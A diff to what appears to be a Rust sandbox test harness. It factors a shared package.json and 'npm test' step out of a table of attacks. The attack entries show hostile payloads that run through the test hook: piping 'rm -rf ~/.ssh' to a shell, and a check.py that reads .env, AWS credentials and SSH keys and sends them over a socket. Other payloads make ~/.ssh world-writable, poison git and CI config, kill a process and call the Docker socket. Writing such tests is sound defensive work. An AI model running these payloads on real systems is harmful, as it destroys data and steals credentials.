@@ -32,6 +32,11 @@ enum Step {
     Read(&'static str),
 }
 
+/// A package whose `npm test` runs the `check.py` an attack wrote, and the ordinary command.
+const NPM_TEST_PACKAGE: Step =
+    Step::Write("{ws}/package.json", "{\"name\": \"p\", \"scripts\": {\"test\": \"python3 check.py\"}}\n");
+const NPM_TEST: Step = Step::Bash("npm test");
+
 /// The attacks: `(id, what it tries, steps)`.
 const ATTACKS: &[(&str, &str, &[Step])] = &[
     ("pipe-to-shell", "code piped to a shell", &[Step::Bash("echo 'rm -rf ~/.ssh' | bash")]),
@@ -102,8 +107,8 @@ const ATTACKS: &[(&str, &str, &[Step])] = &[
                 "{ws}/check.py",
                 "import os, socket\nh = os.path.expanduser('~')\ndata = b''\nfor f in ['.env', h + '/.aws/credentials', h + '/.ssh/id_rsa']:\n    try:\n        data += open(f, 'rb').read()\n    except OSError:\n        pass\ns = socket.create_connection(('127.0.0.1', {port}), timeout=3)\ns.sendall(data or b'connected')\n",
             ),
-            Step::Write("{ws}/package.json", "{\"name\": \"p\", \"scripts\": {\"test\": \"python3 check.py\"}}\n"),
-            Step::Bash("npm test"),
+            NPM_TEST_PACKAGE,
+            NPM_TEST,
         ],
     ),
     (
@@ -114,8 +119,8 @@ const ATTACKS: &[(&str, &str, &[Step])] = &[
                 "{ws}/check.py",
                 "import os\nh = os.path.expanduser('~')\nfor d in (h, h + '/.ssh'):\n    try:\n        os.chmod(d, 0o777)\n    except OSError as e:\n        print(e)\n",
             ),
-            Step::Write("{ws}/package.json", "{\"name\": \"p\", \"scripts\": {\"test\": \"python3 check.py\"}}\n"),
-            Step::Bash("npm test"),
+            NPM_TEST_PACKAGE,
+            NPM_TEST,
         ],
     ),
     (
@@ -126,8 +131,8 @@ const ATTACKS: &[(&str, &str, &[Step])] = &[
                 "{ws}/check.py",
                 "import os\nh = os.path.expanduser('~')\nfor f in (h + '/.cache/pre-commit/hook.py', h + '/.gitconfig', '.github/workflows/ci.yml'):\n    try:\n        open(f, 'a').write('# poisoned')\n    except OSError as e:\n        print(e)\n",
             ),
-            Step::Write("{ws}/package.json", "{\"name\": \"p\", \"scripts\": {\"test\": \"python3 check.py\"}}\n"),
-            Step::Bash("npm test"),
+            NPM_TEST_PACKAGE,
+            NPM_TEST,
         ],
     ),
     (
@@ -138,8 +143,8 @@ const ATTACKS: &[(&str, &str, &[Step])] = &[
                 "{ws}/check.py",
                 "import os, signal\ntry:\n    os.kill({victim}, signal.SIGKILL)\nexcept OSError as e:\n    print(e)\n",
             ),
-            Step::Write("{ws}/package.json", "{\"name\": \"p\", \"scripts\": {\"test\": \"python3 check.py\"}}\n"),
-            Step::Bash("npm test"),
+            NPM_TEST_PACKAGE,
+            NPM_TEST,
         ],
     ),
     (
@@ -150,8 +155,8 @@ const ATTACKS: &[(&str, &str, &[Step])] = &[
                 "{ws}/check.py",
                 "import os, socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n    s.connect(os.path.expanduser('~/.colima/default/docker.sock'))\n    s.sendall(b'POST /containers/create')\nexcept OSError as e:\n    print(e)\n",
             ),
-            Step::Write("{ws}/package.json", "{\"name\": \"p\", \"scripts\": {\"test\": \"python3 check.py\"}}\n"),
-            Step::Bash("npm test"),
+            NPM_TEST_PACKAGE,
+            NPM_TEST,
         ],
     ),
 ];
